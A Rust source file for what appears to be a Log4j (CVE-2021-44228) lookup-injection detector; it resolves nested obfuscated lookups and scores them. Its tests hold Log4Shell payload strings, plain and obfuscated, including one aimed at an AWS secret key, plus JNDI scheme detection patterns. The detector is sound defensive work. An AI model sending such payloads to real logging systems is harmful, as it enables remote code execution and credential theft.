//! Would a logger look this up?
//!
//! Lookups of Log4j, resolved as it resolves them, innermost first: `${lower:J}` is `j`, `${x:y:-n}` is `n`. What they come to
//! is what counts, and that they are nested at all: nobody hides a letter who has nothing to hide. (CVE-2021-44228.)

use super::finding::{Class, Look, Report};
use super::scan::has;
use super::text::{any, at, begins, find, from, is_space};
use crate::bytes::find_pair;

/// Most lookups inside of one another that are resolved; more are a finding.
const LOOKUPS_DEPTH_MAX: usize = 16;
/// Most letters before a lookup that may belong to what it comes to: `j${x:y:-nd}i`.
const JOINED_BYTES_MAX: usize = 8;

const HIDES: &str = "lookups inside of lookups, which hide what they say";
const FOLLOWS: &str = "a lookup that a logger would follow";

/// `plain` is room for what lookups come to.
pub(super) fn look(look: &Look<'_>, plain: &mut Vec<u8>, report: &mut Report) {
    let text = look.text;
    if !(look.seen.bytes(has::DOLLAR) && look.seen.bytes(has::BRACE)) {
        return;
    }
    let mut next = 0;
    while let Some(open) = find_pair(from(text, next), [b'$', b'{']).map(|open| open + next) {
        let joined = text.get(next..open).unwrap_or_default().iter().rev().take(JOINED_BYTES_MAX);
        let start = open - joined.take_while(|byte| byte.is_ascii_alphabetic()).count();
        next = Row::default().resolve(text, start, plain, report).max(open + 2);
    }
}

/// Lookups in a row, or inside of one another, with nothing between that ends a word.
#[derive(Default)]
struct Row {
    /// Where each open lookup begins in what is resolved so far, and how many there are.
    open: [usize; LOOKUPS_DEPTH_MAX],
    depth: usize,
    /// How many stand inside of another, or behind one.
    nested: usize,
    /// How many say with a colon where to look: `env:X`, `lower:x`, `::-x`.
    told: usize,
    /// One asks at once for what only the server knows.
    asks: bool,
}

impl Row {
    /// Resolves the row that begins at `start`, judges it, and returns where it ends. Each lookup is read once for each one
    /// that it is inside of.
    fn resolve(mut self, text: &[u8], start: usize, plain: &mut Vec<u8>, report: &mut Report) -> usize {
        plain.clear();
        let mut position = start;
        let mut begun = false;
        let first = start + from(text, start).iter().take_while(|byte| byte.is_ascii_alphabetic()).count();
        let span = |end: usize| (first, end.min(text.len()));
        while let Some(byte) = text.get(position).copied() {
            match byte {
                b'$' if at(text, position + 1) == b'{' => {
                    let Some(slot) = self.open.get_mut(self.depth) else {
                        report.add(Class::Lookup, 5, span(position), HIDES);
                        return position + 2;
                    };
                    *slot = plain.len();
                    self.nested += usize::from(begun);
                    begun = true;
                    self.depth += 1;
                    position += 2;
                    let name = from(text, position);
                    self.asks |= [&b"env:"[..], b"sys:", b"java:", b"jndi"].iter().any(|known| begins(name, known));
                }
                b'}' => {
                    position += 1;
                    let Some(depth) = self.depth.checked_sub(1) else { break };
                    self.depth = depth;
                    let content = self.open.get(depth).copied().unwrap_or(0);
                    if find(from(plain, content), b"jndi:").is_some() {
                        report.add(Class::Lookup, 7, span(position), FOLLOWS);
                        return position;
                    }
                    self.told += usize::from(value(plain, content));
                    let joins = matches!(at(text, position), b'$' | b':' | b'a'..=b'z' | b'A'..=b'Z');
                    if depth == 0 && !joins {
                        break;
                    }
                }
                b' ' | b'"' | b'\'' | b'<' | b'>' | b',' if self.depth == 0 => break,
                _ if self.depth == 0 && is_space(byte) => break,
                _ => {
                    plain.push(byte);
                    position += 1;
                }
            }
        }
        self.judge(plain, span(position), report);
        position
    }

    /// Judges what a row comes to.
    fn judge(&self, plain: &[u8], span: (usize, usize), report: &mut Report) {
        let schemes = [&b"ldap:"[..], b"ldaps:", b"rmi:", b"dns:", b"iiop:", b"corba:", b"nis:", b"nds:"];
        let known = [&b"env:"[..], b"sys:", b"java:", b"hostname", b"bundle:", b"k8s:", b"docker:", b"ctx:"];
        let (score, why) = match () {
            () if find(plain, b"jndi:").is_some() => (7, FOLLOWS),
            () if self.nested >= 1 && any(plain, &schemes) => (7, FOLLOWS),
            () if self.nested >= 1 && self.told >= 1 => (5, HIDES),
            () if self.asks => (5, FOLLOWS),
            () if self.nested >= 1 && any(plain, &known) => (4, HIDES),
            () => (0, FOLLOWS),
        };
        report.add(Class::Lookup, score, span, why);
    }
}

/// Puts in the place of a lookup what it comes to: its default, or its argument where it changes case; otherwise itself.
/// Returns whether it says with a colon where to look.
fn value(plain: &mut Vec<u8>, start: usize) -> bool {
    let lookup = from(plain, start);
    let default = find_pair(lookup, [b':', b'-']);
    let colon = memchr::memchr(b':', lookup);
    let told = match (default, colon) {
        // `::-x` has no name, and `x:y:-z` has one with a place in front.
        (Some(default), Some(colon)) => colon < default || default == 0 || at(lookup, default.wrapping_sub(1)) == b':',
        _ => false,
    };
    let name = colon.and_then(|colon| lookup.get(..colon)).unwrap_or_default();
    let (cased, dated) = (
        name.eq_ignore_ascii_case(b"lower") || name.eq_ignore_ascii_case(b"upper"),
        name.eq_ignore_ascii_case(b"date"),
    );
    let dropped = match (default, colon) {
        (Some(default), _) => default + 2,
        (None, Some(colon)) if cased || dated => colon + 1,
        _ => return false,
    };
    plain.copy_within(start + dropped.., start);
    plain.truncate(plain.len() - dropped);
    if let Some(kept) = plain.get_mut(start..).filter(|_| cased) {
        kept.make_ascii_lowercase();
    }
    if dated {
        let mut kept = start;
        for at in start..plain.len() {
            if let Some(byte) = plain.get(at).copied().filter(|byte| *byte != b'\'')
                && let Some(slot) = plain.get_mut(kept)
            {
                *slot = byte;
                kept += 1;
            }
        }
        plain.truncate(kept);
    }
    told || cased || dated
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::semantic::finding::Place;
    use crate::semantic::scan::scan;

    fn score(text: &str) -> u8 {
        let mut report = Report::default();
        let (text, seen) = (text.as_bytes(), scan(text.as_bytes()));
        look(&Look { text, seen, place: Place::Header, name: b"x" }, &mut Vec::new(), &mut report);
        report.score(Class::Lookup)
    }

    #[test]
    fn lookups_score_however_they_hide() {
        for text in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:${lower:l}dap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:X:-j}ndi${env:X:-:}ldap://x}",
            "${jnd${upper:i}:ldap://x}",
            "j${x:y:-nd}i:${lower:l}dap://x",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
        ] {
            assert!(score(text) >= 5, "{text}: {}", score(text));
        }
    }

    #[test]
    fn placeholders_do_not() {
        for text in
            ["${name}", "${a} and ${b}", "cost: $5 {net}", "${user.name:-nobody}", "`${count} items`", "${a}${b}"]
        {
            assert!(score(text) < 5, "{text}: {}", score(text));
        }
    }
}
